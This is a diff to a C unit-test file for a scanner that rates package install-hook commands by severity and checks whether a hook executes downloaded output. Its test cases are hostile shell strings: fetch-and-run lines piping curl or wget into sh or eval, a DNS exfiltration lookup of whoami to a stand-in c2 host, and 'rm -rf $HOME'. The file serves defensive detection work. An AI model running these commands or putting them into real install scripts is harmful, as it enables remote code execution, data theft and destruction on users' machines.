@@ -1,6 +1,7 @@
 #include "test.h"
 
 #include "base/buf.h"
+#include "scanner/rule/hook_answer.h"
 #include "scanner/rule/post.h"
 
 static struct arena *arena;
@@ -111,6 +112,11 @@ static const struct {
 	{"node scripts/postinstall || exit 0", SEVERITY_MEDIUM},
 	{"node -e \"try{require('./postinstall')}catch(e){}\"", SEVERITY_MEDIUM},
 	{"node -e \"console.log('Thank you for using this package; see https://example.com')\"", SEVERITY_MEDIUM},
+	{"node -e \"try{require('.')}catch(e){}\"", SEVERITY_MEDIUM},
+	{"node -e \"if (!process.env.AUTHORIZED) { console.error('Use the release workflow.'); process.exit(1); }\"", SEVERITY_MEDIUM},
+	{"node -e \"require('./' + process.env.X)\"", SEVERITY_HIGH},
+	{"node -e \"import(process.env.X)\"", SEVERITY_HIGH},
+	{"node -e \"process.env.constructor.constructor(process.env.X)()\"", SEVERITY_HIGH},
 	{"node -e \"require('child_process').exec('id')\"", SEVERITY_HIGH},
 	{"node -e \"eval(process.env.X)\"", SEVERITY_HIGH},
 	{"node -e \"require(process.env.X)\"", SEVERITY_HIGH},
@@ -122,6 +128,12 @@ static const struct {
 	{"nslookup $(whoami).c2.example", SEVERITY_CRITICAL},
 	{"rm -rf $HOME", SEVERITY_CRITICAL},
 	{"rm -rf dist", SEVERITY_MEDIUM},
+	{"curl -fsSL https://a.example/a.gpg.key | gpg --dearmor -o a.gpg", SEVERITY_HIGH},
+	{"V=$(curl -s https://a.example/latest)", SEVERITY_HIGH},
+	{"curl -L https://a.example/a.tar.gz -o a.tar.gz && tar -xf a.tar.gz", SEVERITY_HIGH},
+	{"curl -s https://a.example/x -o /usr/local/bin/xx; xx", SEVERITY_CRITICAL},
+	{"$(curl -s https://a.example/x)", SEVERITY_CRITICAL},
+	{"X=$(curl -s https://a.example/x | sh)", SEVERITY_CRITICAL},
 	{"npx github:evil/x", SEVERITY_CRITICAL},
 	{"npm install evil", SEVERITY_HIGH},
 };
@@ -195,6 +207,59 @@ static void test_limits(void **state)
 	repeat("`", 10001, false);
 }
 
+static void test_answers(void **state)
+{
+	static const struct {
+		const char *script;
+		bool runs;
+	} cases2[] = {
+		{"X=$(curl -s https://a.example/x); $X", true},
+		{"X=`curl -s https://a.example/x`\neval \"$X\"", true},
+		{"X=\"$(wget -qO- https://a.example/x)\"\nbash -c \"${X}\"", true},
+		{"X=$(curl -s https://a.example/x)\nY=$(echo $X | base64 -d)\necho \"$Y\" | sh", true},
+		{"if true; then X=$(curl -s a.example); fi; sudo $X", true},
+		{"V=$(curl -s https://a.example/latest | grep tag | cut -d: -f2)\necho \"$V\"\ncurl -o a.tgz https://a.example/$V", false},
+		{"X=$(curl -s https://a.example/x); [ \"$X\" = ok ] && grep -c \"$X\" log", false},
+		{"X=$(curl -s https://a.example/x); echo -e \"$X\" | tee out", false},
+		{"X=$(curl -s https://a.example/x); $XY", false},
+		{"cat <<E\n$X\nE\nX=$(curl -s a.example)\ncat <<E\n$X\nE", false},
+		{"X=$(uname -m); $X; curl -s https://a.example", false},
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof cases2 / sizeof *cases2; i++)
+		if ((hook_runs_answer(text_of(cases2[i].script)) < text_of(cases2[i].script).n) != cases2[i].runs)
+			fail_msg("%s", cases2[i].script);
+}
+
+static bool runs_after(size_t variables, size_t others, size_t padding)
+{
+	struct buf b = BUF((size_t)1 << 20);
+
+	for (size_t i = 0; i < others; i++)
+		buf_text(&b, T("A=$(uname)\n"));
+	for (size_t i = 0; i < variables; i++)
+		buf_printf(&b, "V%zu=$(curl -s a.example)\n", i);
+	buf_text(&b, T("X=$("));
+	for (size_t i = 0; i < padding; i++)
+		buf_char(&b, ' ');
+	buf_text(&b, T("curl -s a.example)\neval \"$X\"\n"));
+	bool runs = hook_runs_answer(buf_view(&b)) < b.n;
+	buf_free(&b);
+	return runs;
+}
+
+static void test_answer_limits(void **state)
+{
+	(void)state;
+	assert_true(runs_after(HOOK_ANSWERS_MAX - 1, 0, 0));
+	assert_false(runs_after(HOOK_ANSWERS_MAX, 0, 0));
+	assert_true(runs_after(0, HOOK_ANSWER_TRIES - 1, 0));
+	assert_false(runs_after(0, HOOK_ANSWER_TRIES, 0));
+	assert_true(runs_after(0, 0, HOOK_ANSWER_MAX - 5));
+	assert_false(runs_after(0, 0, HOOK_ANSWER_MAX));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -202,6 +267,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_verdicts, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_which_hooks_run, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_limits, setup, teardown),
+		cmocka_unit_test(test_answers),
+		cmocka_unit_test(test_answer_limits),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
